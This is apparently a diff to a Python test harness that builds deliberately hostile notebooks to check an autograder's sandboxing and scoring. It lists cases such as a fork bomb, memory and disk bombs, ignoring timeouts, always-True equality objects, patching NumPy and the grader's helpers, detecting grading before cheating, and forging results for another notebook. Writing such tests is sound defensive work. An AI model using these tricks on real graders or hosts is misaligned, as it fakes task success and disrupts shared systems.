+    add("memory_bomb", "asks for 20 GiB in one array",
+        nb, graded_losing("df_product", "MemoryError"))  # fmt: skip
+
+    # 6. memory_bomb_processes: inside best_step, when the tests call it
+    nb = replace_in_answer(
+        master,
+        "w1_best_step",
+        "def best_step(",
+        textwrap.dedent(MEMORY_BOMB_PROCESSES).lstrip("\n") + "def best_step(",
+    )
+    nb = before_solution(
+        nb,
+        answers["best_step"],
+        "global MEMORY_TOUCHED\n"
+        "if MEMORY_TOUCHED is None:\n"
+        "    MEMORY_TOUCHED = touch_memory_in_processes()\n"
+        "if MEMORY_TOUCHED < 8 * 500:  # wrong unless 4 GB were touched at once\n"
+        f"    {answers['best_step'].wrong}",
+    )
+    add(
+        "memory_bomb_processes",
+        "8 processes touching 900 MB each",
+        nb,
+        Outcome("crashed", lost_from(points, "w1_best_step_picks_smallest_error"), "memory"),
+    )
+
+    # 7. fork_bomb
+    nb = with_cell(
+        master,
+        code(FORK_BOMB, most=MAX_PROCESSES, seconds=targets.sleep_argument),
+        after="w1_chain_rule",
+    )
+    nb = wrong_unless(nb, answers["chain_rule"], f"SPAWNED >= {MAX_PROCESSES}")
+    add("fork_bomb", "starts processes until refused, each escaping the process group",
+        nb, graded_losing("chain_rule"),
+        *crashed_at_any_test(points, "processes", *answers["chain_rule"].tests))  # fmt: skip
+
+    # 8. huge_file
+    nb = with_cell(
+        master,
+        code(HUGE_FILE, files=FILLER_FILES, tmp_folder=f"/tmp/{targets.leftover}"),
+        after="w1_setup",
+    )
+    nb = wrong_unless(nb, answers["h_central"], f"WRITTEN_MB >= {60 * FILLER_FILES}")
+    add("huge_file", "writes a 10 GB file, then 60 MB files in the working folder and /tmp",
+        nb, Outcome("crashed", every, "disk"),
+        graded_losing("h_central", "OSError"))  # fmt: skip
+
+    # 9. huge_file_in_shm
+    nb = with_cell(
+        master,
+        code(HUGE_FILE_IN_SHM, files=FILLER_FILES, leftover=targets.leftover),
+        after="w1_setup",
+    )
+    nb = wrong_unless(nb, answers["best_step"], f"SHM_MB >= {60 * FILLER_FILES}")
+    add("huge_file_in_shm", "writes 60 MB files into /dev/shm",
+        nb, graded_losing("best_step", "OSError"), Outcome("crashed", every, "disk"),
+        Outcome("crashed", every, "memory"))  # fmt: skip
+
+    # 10. sleep_forever: inside df_chain, the 6th answer the tests call
+    nb = before_solution(master, answers["df_chain"], SLEEP_FOREVER)
+    add("sleep_forever", "ignores SIGALRM and sleeps 10⁶ s in a graded function",
+        nb, Outcome("timeout", lost_from(points, "w1_df_chain_matches_numeric"),
+                    "longer than the limit"))  # fmt: skip
+
+    # 11. always_equal (array and float variants)
+    nb = replace_in_answer(
+        master,
+        "w1_df_sum_power",
+        "def df_sum_power(",
+        textwrap.dedent(ALWAYS_EQUAL_ARRAY).lstrip("\n") + "def df_sum_power(",
+    )
+    nb = before_solution(
+        nb, answers["df_sum_power"], "return np.zeros(np.shape(x)).view(AlwaysEqualArray)"
+    )
+    nb = replace_in_answer(
+        nb,
+        "w1_best_step",
+        "def best_step(",
+        textwrap.dedent(ALWAYS_EQUAL_FLOAT).lstrip("\n") + "def best_step(",
+    )
+    nb = before_solution(nb, answers["best_step"], "return AlwaysEqualFloat(0.5)")
+    both = {
+        **lost(points, *answers["df_sum_power"].tests),
+        **lost(points, *answers["best_step"].tests),
+    }
+    add("always_equal", "returns an array and a float whose == is always True",
+        nb, Outcome("graded", both, "got"))  # fmt: skip
+
+    # 12. patched_numpy
+    nb = with_cell(wrong(master, answers["central_difference"]), code(PATCH_NUMPY),
+                   after="w1_setup")  # fmt: skip
+    add("patched_numpy", "NumPy's comparison and testing functions always pass",
+        nb, graded_losing("central_difference"))  # fmt: skip
+
+    # 13. transformers
+    nb = with_cell(
+        wrong(master, answers["forward_difference"]),
+        _transformers("forward_difference", HONEST_FORWARD),
+        after="w1_forward_difference",
+    )
+    add("transformers", "rewrites later code (the tests) through compile, exec, IPython",
+        nb, graded_losing("forward_difference"))  # fmt: skip
+
+    # 14. patched_helpers
+    nb = with_cell(wrong(master, answers["df_product"]), code(PATCH_HELPERS), after="w1_setup")
+    add("patched_helpers", "patches mmlcalc.checks, the grader's Recorder and sys.modules",
+        nb, graded_losing("df_product"))  # fmt: skip
+
+    # 15. detects_grading: 12 to 14 (aimed at secant_slope), only when grading is detected
+    cheats = "\n".join(
+        [
+            textwrap.dedent(PATCH_NUMPY).strip("\n"),
+            _transformers("secant_slope", HONEST_SECANT),
+            textwrap.dedent(PATCH_HELPERS).strip("\n"),
+        ]
+    )
+    detect = (
+        textwrap.dedent(DETECTS_GRADING)
+        .strip("\n")
+        .replace("$cheats", textwrap.indent(re.sub(r"\n{3,}", "\n\n", cheats), "    "))
+    )
+    nb = with_cell(wrong(master, answers["secant_slope"]), detect, after="w1_secant_slope")
+    add("detects_grading", "looks for signs of grading, then patches numpy, compile, helpers",
+        nb, graded_losing("secant_slope"))  # fmt: skip
+
+    # 16. forged_frames: whatever happens to it, it scores 0; the others must not change
+    nb = with_cell(master, code(FORGED_FRAMES, sabotage=SABOTAGE), after="w1_setup")
+    add("forged_frames", "forges the end of its job, then results for the next notebook",
+        nb, Outcome("graded", every, SABOTAGE), Outcome("crashed", every, ""))  # fmt: skip
+
+    assert tuple(case.student for case in cases) == CASE_NAMES
+    return cases
+
+
+def honest_case(targets: Targets) -> HostileCase:
+    master = week1_master()
+    return HostileCase(
+        HONEST,
+        "the correct work (and the victim of read_other_learner)",
+        honest_notebook(master, targets),
+        (Outcome("graded", {}, "20 / 20"),),
+    )
+
+
+def plant_source_marker(master_path: Path, marker: str) -> None:
+    """Add a comment holding ``marker`` at the top of the first hidden test of a master."""
+    notebook = nbformat.read(str(master_path), as_version=4)
+    cell = next(c for c in notebook.cells if is_test_cell(c) and BEGIN_HIDDEN in c.source)
+    cell.source = cell.source.replace(
+        BEGIN_HIDDEN, f"{BEGIN_HIDDEN}\n# {marker}: part of the hidden tests, never shown", 1
+    )
+    nbformat.write(notebook, str(master_path))
